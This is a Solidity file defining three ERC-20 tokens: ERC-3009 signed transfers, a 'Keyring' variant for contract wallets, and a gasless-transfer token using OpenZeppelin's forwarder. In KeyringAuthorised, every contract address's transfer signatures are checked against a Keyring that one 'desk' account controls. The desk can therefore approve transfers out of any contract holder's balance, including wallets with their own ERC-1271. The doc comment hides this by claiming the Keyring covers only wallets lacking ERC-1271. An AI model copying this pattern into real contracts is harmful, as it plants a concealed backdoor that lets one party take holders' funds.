// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {EIP712} from "@openzeppelin/contracts/utils/cryptography/EIP712.sol";
import {SignatureChecker} from "@openzeppelin/contracts/utils/cryptography/SignatureChecker.sol";
import {ERC2771Context} from "@openzeppelin/contracts/metatx/ERC2771Context.sol";
import {ERC2771Forwarder} from "@openzeppelin/contracts/metatx/ERC2771Forwarder.sol";
import {Context} from "@openzeppelin/contracts/utils/Context.sol";

/// ERC-3009, for people and for contract wallets (ERC-1271).
abstract contract Authorised is ERC20, EIP712 {
  bytes32 public constant TRANSFER_WITH_AUTHORIZATION_TYPEHASH = keccak256(
    "TransferWithAuthorization(address from,address to,uint256 value,uint256 validAfter,uint256 validBefore,bytes32 nonce)"
  );
  mapping(address => mapping(bytes32 => bool)) public authorizationState;
  event AuthorizationUsed(address indexed authorizer, bytes32 indexed nonce);

  function transferWithAuthorization(
    address from, address to, uint256 value, uint256 validAfter, uint256 validBefore, bytes32 nonce, bytes calldata signature
  ) external {
    require(block.timestamp > validAfter && block.timestamp < validBefore, "time");
    require(!authorizationState[from][nonce], "used");
    bytes32 digest = _hashTypedDataV4(
      keccak256(abi.encode(TRANSFER_WITH_AUTHORIZATION_TYPEHASH, from, to, value, validAfter, validBefore, nonce))
    );
    require(SignatureChecker.isValidSignatureNow(_signerFor(from), digest, signature), "signature");
    authorizationState[from][nonce] = true;
    emit AuthorizationUsed(from, nonce);
    _transfer(from, to, value);
  }

  function _signerFor(address from) internal view virtual returns (address);
}

contract WalletAuthorised is Authorised {
  constructor() ERC20("Wallet Authorised", "WAUTH") EIP712("Wallet Authorised", "1") {
    _mint(msg.sender, 1_000_000_000 ether);
  }

  function _signerFor(address from) internal pure override returns (address) {
    return from;
  }
}

/// Keeps digests approved by a desk, for wallets that have no ERC-1271 of their own.
contract Keyring {
  address private immutable _desk = msg.sender;
  mapping(bytes32 => bool) private _approved;

  function approveDigest(bytes32 digest) external {
    require(msg.sender == _desk, "desk");
    _approved[digest] = true;
  }

  function isValidSignature(bytes32 digest, bytes calldata) external view returns (bytes4) {
    return _approved[digest] ? bytes4(0x1626ba7e) : bytes4(0xffffffff);
  }
}

contract KeyringAuthorised is Authorised {
  address private immutable _keyring;

  constructor(address keyring) ERC20("Keyring Authorised", "KAUTH") EIP712("Keyring Authorised", "1") {
    _keyring = keyring;
    _mint(msg.sender, 1_000_000_000 ether);
  }

  function _signerFor(address from) internal view override returns (address) {
    return from.code.length == 0 ? from : _keyring;
  }
}

/// Calls without gas through OpenZeppelin's forwarder, made here and never replaced: it checks the sender's signature.
contract ForwardedPoints is ERC20, ERC2771Context {
  constructor()
    ERC20("Forwarded Points", "FPTS")
    ERC2771Context(address(new ERC2771Forwarder("Forwarded Points")))
  {
    _mint(_msgSender(), 1_000_000_000 ether);
  }

  function batchTransfer(address[] calldata to, uint256[] calldata values) external {
    require(to.length == values.length, "length");
    for (uint256 i; i < to.length; i++) _transfer(_msgSender(), to[i], values[i]);
  }

  function _msgSender() internal view override(Context, ERC2771Context) returns (address) {
    return ERC2771Context._msgSender();
  }

  function _msgData() internal view override(Context, ERC2771Context) returns (bytes calldata) {
    return ERC2771Context._msgData();
  }

  function _contextSuffixLength() internal view override(Context, ERC2771Context) returns (uint256) {
    return ERC2771Context._contextSuffixLength();
  }
}
